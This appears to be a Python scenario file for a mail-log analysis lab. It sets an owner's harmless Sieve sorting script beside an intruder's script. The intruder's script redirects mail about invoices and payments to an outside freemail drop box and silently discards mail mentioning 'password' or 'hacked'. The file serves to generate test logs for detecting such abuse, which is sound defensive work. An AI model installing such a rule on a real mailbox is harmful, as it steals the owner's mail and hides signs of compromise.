"""What does the log tell of Sieve scripts that sort mail, forward it to a stranger or hide what an owner should see?"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import chain

from lab.acts import arrive, at, change_filter, inject_locally, read_mail, submit
from lab.scenario import Scenario
from lab.setup import Setup, people
from lab.sieving import sieved
from lab.stage import Act, Moment

ANNA, CLARA = "anna.berg@example.org", "clara.hoff@example.org"
_HOME, _DESK, _INTRUDER = "192.0.2.19", "192.0.2.22", "203.0.113.44"
_DROP, _GONE = "drop.box@freemail.example.com", "unknown.box@freemail.example.com"
_SORTED = """\
require ["fileinto", "mailbox"];
if header :contains "subject" "newsletter" { fileinto :create "Letters"; }
elsif header :contains "subject" "list" { fileinto :create "Lists of mine"; }
elsif header :contains "subject" "advert" { discard; }
"""
_STOLEN = f"""\
require ["copy"];
if header :contains "subject" "invoice" {{ redirect :copy "{_DROP}"; }}
elsif header :contains "subject" "payment" {{ redirect "{_DROP}"; }}
elsif header :contains "subject" "moved" {{ redirect "{_GONE}"; }}
elsif header :contains "subject" ["password", "hacked"] {{ discard; }}
"""


def _mail(subject: str, recipient: str) -> Act:
    return arrive("l@thames.example.net", [recipient], "198.51.100.130", helo="mx.thames.example.net", subject=subject)


def _script(account: str, ip: str, text: str) -> Act:
    return change_filter(account, ip, text.replace("\n", "\r\n"))


def _sorted() -> Iterator[Act]:
    yield _script(ANNA, _HOME, _SORTED)
    for subject in ("a newsletter", "a list", "hello"):
        yield _mail(subject, ANNA)
    yield sieved(_mail("an advert", ANNA), ANNA, discards=True)
    yield inject_locally("www-data", [ANNA], subject="newsletter of the server")


def _stolen() -> Iterator[Act]:
    yield _script(CLARA, _INTRUDER, _STOLEN)
    yield _mail("hello", CLARA)
    yield sieved(_mail("an invoice", CLARA), CLARA, forwards=_DROP, keeps=True)
    yield sieved(_mail("your payment", CLARA), CLARA, forwards=_DROP)
    yield sieved(submit(ANNA, _HOME, [CLARA], subject="were you hacked?"), CLARA, discards=True)
    yield sieved(submit(ANNA, _HOME, [CLARA], subject="my invoice"), CLARA, forwards=_DROP, keeps=True)
    yield sieved(_mail("moved", CLARA), CLARA, forwards=_GONE)
    yield read_mail(CLARA, _DESK)


def moments() -> Iterator[Moment]:
    """An owner's script, and an intruder's."""
    return chain(at("2026-10-13 08:00", *_sorted()), at("2026-10-13 09:00", *_stolen()))


SCENARIO = Scenario(Setup(people("anna.berg", "clara.hoff"), begins="2026-10-13 07:55"), moments)
